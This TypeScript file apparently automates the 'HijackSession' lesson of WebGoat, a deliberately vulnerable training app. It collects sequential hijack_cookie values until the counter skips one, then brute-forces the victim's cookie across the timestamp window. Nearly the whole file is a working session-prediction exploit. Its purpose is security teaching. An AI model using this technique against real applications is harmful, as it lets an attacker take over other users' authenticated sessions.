import { form, type Answer, type Sent } from '../visitor';
import { recordExercise } from '../webgoat';

/** How many cookies to ask for: one in four follows a gap, so that this many without one do not occur. */
const MOST_COOKIES = 200;
const LOGIN: Sent = {
  method: 'POST',
  path: '/WebGoat/HijackSession/login',
  ...form({ username: 'learner', password: 'secret1' }),
  // With a cookie the login is an attempt to guess; without one it hands out the next.
  cookies: { hijack_cookie: undefined },
};

interface Numbers {
  readonly counter: bigint;
  readonly milliseconds: bigint;
}

/** The two numbers of the cookie in an answer. */
function numbersOf({ headers }: Answer): Numbers {
  const cookie = headers.find(([name]) => name.toLowerCase() === 'set-cookie')?.[1] ?? '';
  const [, counter, milliseconds] = /^hijack_cookie=(\d+)-(\d+);/.exec(cookie) ?? [];
  if (counter === undefined || milliseconds === undefined) throw new Error(`"${cookie}" is not a hijack_cookie`);
  return { counter: BigInt(counter), milliseconds: BigInt(milliseconds) };
}

const guess = (counter: bigint, milliseconds: bigint): Sent => ({
  ...LOGIN,
  cookies: { hijack_cookie: `${counter}-${milliseconds}` },
});

/**
 * Two cookies in a row, a third whose counter skips one, a guess that is a millisecond too early, then the guess that
 * hits. The cookies are asked for until a counter is skipped.
 */
export const record = recordExercise('HijackSession', async ({ visitor, keep, solve, fail }) => {
  const answers: Answer[] = [];
  for (let count = 0; count < MOST_COOKIES; count += 1) {
    answers.push(await visitor.send(LOGIN));
    const [first, second, third] = answers.slice(-3);
    if (!first || !second || !third) continue;
    const [start, before, after] = [numbersOf(first), numbersOf(second), numbersOf(third)];
    if (before.counter !== start.counter + 1n || after.counter !== before.counter + 2n) continue;
    for (const answer of [first, second, third]) keep(answer);
    const skipped = before.counter + 1n;
    await fail(guess(skipped, before.milliseconds - 1n));
    // The victim's login follows the reader's own at once, mostly within the same millisecond.
    for (let time = before.milliseconds; time <= after.milliseconds; time += 1n) {
      const answer = await visitor.send(guess(skipped, time));
      if (!answer.body.includes('"lessonCompleted" : true')) continue;
      keep(answer);
      return;
    }
    throw new Error(`No cookie with the counter ${skipped} was accepted.`);
  }
  await solve(guess(0n, 0n));
});
